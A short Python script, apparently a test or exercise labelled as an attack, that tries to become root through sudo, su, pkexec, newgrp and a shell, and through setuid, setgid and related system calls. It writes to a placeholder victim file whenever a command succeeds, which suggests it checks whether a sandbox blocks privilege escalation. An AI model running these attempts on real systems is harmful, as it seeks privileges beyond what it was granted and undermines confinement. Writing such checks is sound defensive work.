"""Becomes root by sudo, su, pkexec and by the calls that change who it is."""
# attack: week=03 exercise=pyramid
import os
import subprocess

for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["pkexec", "id"], ["newgrp"], ["/bin/sh", "-c", "id"]):
    try:
        print(subprocess.run(command, capture_output=True, timeout=5, stdin=subprocess.DEVNULL))
        open("@VICTIM@", "a").write("ran")
    except (OSError, subprocess.SubprocessError) as error:
        print("refused", error)
for act in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.setreuid(65534, 0)):
    try:
        print("done", act())
    except OSError as error:
        print("refused", error)
